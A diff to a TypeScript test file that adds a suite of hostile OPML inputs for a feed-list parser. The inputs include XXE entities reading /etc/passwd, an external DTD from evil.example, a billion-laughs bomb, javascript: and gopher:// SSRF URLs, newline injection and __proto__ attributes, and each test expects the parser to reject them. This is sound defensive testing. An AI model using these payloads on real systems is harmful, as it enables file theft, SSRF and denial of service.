@@ -24,6 +24,46 @@ describe('readOpml', () => {
   ])('%s is none', (_name, text) => expect(readOpml(text)).toBeNull());
 });
 
+describe('a hostile list', () => {
+  const laughs = Array.from({ length: 9 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join('');
+  const outline = (url: string) => `<outline text="样" xmlUrl="${url}"/>`;
+  const lists: readonly (readonly [name: string, head: string, body: string, urls: readonly string[]])[] = [
+    [
+      'an entity of a file',
+      '<!DOCTYPE opml [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
+      outline('https://a.example/&x;'),
+      ['https://a.example/&x;'],
+    ],
+    [
+      'a document type elsewhere',
+      '<!DOCTYPE opml SYSTEM "http://evil.example/x.dtd">',
+      outline('https://a.example/'),
+      ['https://a.example/'],
+    ],
+    [
+      'a billion laughs',
+      `<!DOCTYPE opml [<!ENTITY l0 "ha">${laughs}]>`,
+      outline('https://a.example/&l9;'),
+      ['https://a.example/&l9;'],
+    ],
+    ['JavaScript', '', outline('javascript:alert(1)'), []],
+    ['a file', '', outline('file:///etc/passwd'), []],
+    ['data', '', outline('data:text/xml,x'), []],
+    ['another protocol', '', outline('gopher://127.0.0.1:6379/_x'), []],
+    ['an address with a line end', '', outline('https://a.example/&#10;proxy: x'), []],
+    ['an address with a blank', '', outline('https://a.example/ x'), []],
+    ['no scheme', '', outline('//a.example/'), []],
+    ['an inclusion', '', '<outline type="include" url="file:///etc/passwd" text="x"/>', []],
+    ['names of prototypes', '', '<outline __proto__="x" constructor="y" text="z"/>', []],
+    ['one address a thousand times', '', outline('https://a.example/').repeat(1000), ['https://a.example/']],
+    ['outlines without end', '', '<outline text="x">'.repeat(20_000), []],
+  ];
+  test.each(lists)('with %s', (_name, head, body, urls) => {
+    const list = readOpml(`<?xml version="1.0"?>${head}<opml version="2.0"><body>${body}</body></opml>`);
+    expect(list?.map(({ url }) => url)).toEqual(urls);
+  });
+});
+
 test.each([
   ['https://www.example.com/rss/news.xml', 'example-news'],
   ['https://news.example.com.cn/', 'news-example'],
